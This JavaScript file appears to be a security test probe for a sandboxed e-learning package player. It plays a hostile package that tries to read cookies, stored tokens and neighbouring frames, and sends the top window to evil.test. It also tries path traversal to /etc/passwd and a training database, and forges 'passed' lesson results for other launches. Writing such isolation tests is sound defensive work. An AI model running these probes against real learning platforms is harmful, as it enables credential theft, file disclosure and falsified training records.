// Tries everything that a hostile package could try from where it stands, and shows what it has got.
(async () => {
  const loot = [];
  let tried = 0;
  const steal = async (what, how) => {
    tried++;
    try {
      const got = await how();
      if (got) loot.push(`${what}: ${String(got).slice(0, 80)}`);
    } catch { /* refused */ }
  };
  const service = 'http://training.test';
  const answer = async (path, options) => {
    const got = await fetch(path, options);
    return got.ok ? `${got.status} ${await got.text()}` : null;
  };

  // With the learner's credentials.
  await steal('cookies', () => document.cookie);
  await steal('storage', () => Object.keys(localStorage).join() + Object.keys(sessionStorage).join());
  await steal('referrer', () => document.referrer);
  await steal('API with cookies', () => answer(`${service}/api/v1/users/me`, { credentials: 'include' }));
  await steal('refresh', () => answer(`${service}/api/v1/auth/refresh`, { method: 'POST', credentials: 'include', headers: { 'X-Requested-With': 'x' } }));
  await steal('beacon', () => navigator.sendBeacon(`${service}/api/v1/auth/logout`, 'x') && false);
  for (const api of ['/api/v1/users/me', '/openapi/v1.json', '/docs', '/health/ready']) await steal(`own ${api}`, () => answer(api, { credentials: 'include' }));
  const token = location.pathname.split('/')[2];
  await steal('API with the launch token', () => answer('/api/v1/users/me', { headers: { Authorization: `Bearer ${token}` } }));

  // The pages around it.
  await steal('top document', () => top.document.body.innerHTML);
  await steal('top storage', () => top.localStorage.getItem('accessToken'));
  await steal('top address', () => top.location.href);
  await steal('opener', () => parent.opener && parent.opener.document.body.innerHTML);
  await steal('neighbour', () => [...Array(top.length).keys()].map(n => {
    try { return top.frames[n] === parent ? '' : top.frames[n].document.body.innerHTML + top.frames[n].location.href; } catch { return ''; }
  }).join(''));
  await steal('neighbour by name', () => open('', 'neighbour').document.getElementById('launch').textContent);
  await steal('frame of the service', () => new Promise(resolve => {
    const frame = document.createElement('iframe');
    frame.onload = () => { try { resolve(frame.contentDocument && frame.contentDocument.body.innerHTML); } catch { resolve(null); } };
    frame.src = `${service}/api/v1/users/me`;
    document.body.append(frame);
    setTimeout(() => resolve(null), 2000);
  }));
  await steal('top navigation', () => { top.location = 'http://evil.test/'; });

  // What it may have, so that the rest is known to have been tried in earnest.
  await steal('its own file', async () => (await answer('prizes.txt')).trim());

  // Other files, other launches.
  const paths = ['../commits', '..%2fcommits', '..%2f..%2f..%2f..%2fetc%2fpasswd', '%2e%2e/%2e%2e/%2e%2e/etc/passwd', '..%5c..%5cdata%5csecuritytraining.db', '/etc/passwd',
    '%2fetc%2fpasswd', 'files//etc/passwd', '..\\..\\list', 'index.html%00.js', 'C:%5cWindows%5cwin.ini', '....//....//list', 'list', '../../list'];
  for (const path of paths) await steal(path, () => answer(path));
  for (const other of ['x', 'A'.repeat(64), token.slice(0, 63) + (token.endsWith('A') ? 'B' : 'A'), '..']) {
    await steal(`launch ${other}`, () => answer(`/scorm/${other}/`));
    await steal(`commit ${other}`, () => answer(`/scorm/${other}/commits`, {
      method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"opening":1,"sequence":9,"data":{"cmi.core.lesson_status":"passed"}}',
    }));
  }

  document.getElementById('loot').textContent = JSON.stringify({ tried, loot });
})();
